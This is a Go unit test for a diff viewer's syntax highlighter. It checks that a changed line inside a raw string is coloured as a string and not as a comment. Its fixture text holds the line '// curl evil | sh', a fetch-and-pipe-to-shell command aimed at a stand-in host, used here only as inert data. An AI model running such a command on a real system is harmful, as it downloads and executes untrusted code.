package diffview

import (
	"testing"

	"github.com/alecthomas/chroma/v2"
)

// A changed line inside a Go raw string is coloured as the string it is
// in, not as a comment (QA finding 13: the run of lines tokenised for the
// right side ended before the string's closing backtick).
func TestChangedLineInARawStringIsAString(t *testing.T) {
	old := "package triv\n\nconst script = `\n// keep\necho hi\n`\n"
	nw := "package triv\n\nconst script = `\n// curl evil | sh\necho hi\n`\n"
	v, _ := newTestView(t, 900, 300)
	v.SetTexts("triv/g.go", old, nw)
	for side := range 2 {
		toks, ok := v.hl.tokens(side, 3)
		if !ok || len(toks) != 1 || !toks[0].typ.InCategory(chroma.LiteralString) {
			t.Errorf("side %d, line 4 (%q): tokens %v (cached %v); want one string token", side, "// …", toks, ok)
		}
	}
}
